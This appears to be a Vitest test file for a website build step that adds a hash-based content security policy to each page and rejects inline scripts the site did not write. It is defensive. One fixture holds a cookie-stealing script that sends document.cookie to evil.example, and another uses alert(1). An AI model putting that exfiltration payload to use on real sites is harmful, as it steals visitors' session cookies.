import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { addPolicies, inlineScripts, policyFor, withPolicy } from '../../src/build/csp';
import { COPY_LINK_SCRIPT, THEME_SCRIPT } from '../../src/lib/inline-scripts';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const page = (head: string, body = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;
const scriptSrc = (policy: string) => policy.split('; ').find((d) => d.startsWith('script-src'))!;

describe('the content security policy', () => {
  it('allows the site’s own inline scripts on the page by their hashes, never by unsafe-inline', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`, `<script>${COPY_LINK_SCRIPT}</script>`), 'guides/why-lift/index.html');
    expect(scriptSrc(policy)).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)} ${sha(COPY_LINK_SCRIPT)}`);
  });

  it('allows only the inline scripts a page has', () => {
    expect(scriptSrc(policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html'))).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)}`);
  });

  it('refuses an inline script the site does not write, naming the page and the script', () => {
    const html = page(`<script>${THEME_SCRIPT}</script>`, '<p>Squat</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    expect(() => policyFor(html, 'exercises/goblet-squat/index.html')).toThrow(
      'exercises/goblet-squat/index.html: an inline script the site does not write: <script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    );
    expect(() => policyFor(page('<script type="module">a()</script>'), 'x.html')).toThrow('x.html: an inline script');
  });

  it('leaves out external scripts and data blocks, which need no hash', () => {
    const html = page('<script src="/x.js"></script><script type="application/ld+json">{"a":1}</script><script type="application/json">[]</script>');
    expect(inlineScripts(html)).toEqual([]);
  });

  it('names no origin but the site itself', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(policy).not.toMatch(/https?:|\*/);
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("object-src 'none'");
  });

  it('goes first in <head> and replaces an earlier policy instead of adding a second', () => {
    const once = withPolicy(page(`<title>t</title><script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(once).toMatch(/^<!doctype html><html><head><meta http-equiv="content-security-policy"/);
    const twice = withPolicy(once, 'index.html');
    expect(twice.match(/content-security-policy/g)).toHaveLength(1);
    expect(twice).toBe(once);
  });
});

describe('the policy step on the built site', () => {
  const root = mkdtempSync(join(tmpdir(), 'strongstride-csp-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  /** A built site of `count` pages in a folder of its own; `extra` is added to the last page's body. */
  function site(name: string, count: number, extra = '') {
    const dist = join(root, name);
    const files = Array.from({ length: count }, (_, i) => join(dist, 'exercises', `e${i}`, 'index.html'));
    files.forEach((file, i) => {
      mkdirSync(join(file, '..'), { recursive: true });
      writeFileSync(file, page(`<script>${THEME_SCRIPT}</script>`, `<h1>Exercise ${i}</h1>${i === count - 1 ? extra : ''}`));
    });
    return { dist, files };
  }

  it('puts the policy in every page and leaves nothing else behind', async () => {
    const { dist, files } = site('good', 40);
    expect(await addPolicies(dist)).toBe('policy added to 40 pages');
    for (const file of files) expect(readFileSync(file, 'utf8')).toMatch(/^<!doctype html><html><head><meta http-equiv="content-security-policy"[^>]*><script>/);
    expect(readdirSync(join(dist, 'exercises', 'e0'))).toEqual(['index.html']);
  });

  it('changes no page when one has a script the site does not write, and names that page', async () => {
    const { dist, files } = site('bad', 40, '<script>alert(1)</script>');
    const before = files.map((file) => readFileSync(file, 'utf8'));
    await expect(addPolicies(dist)).rejects.toThrow('exercises/e39/index.html: an inline script the site does not write: <script>alert(1)</script>');
    expect(files.map((file) => readFileSync(file, 'utf8'))).toEqual(before);
  });
});
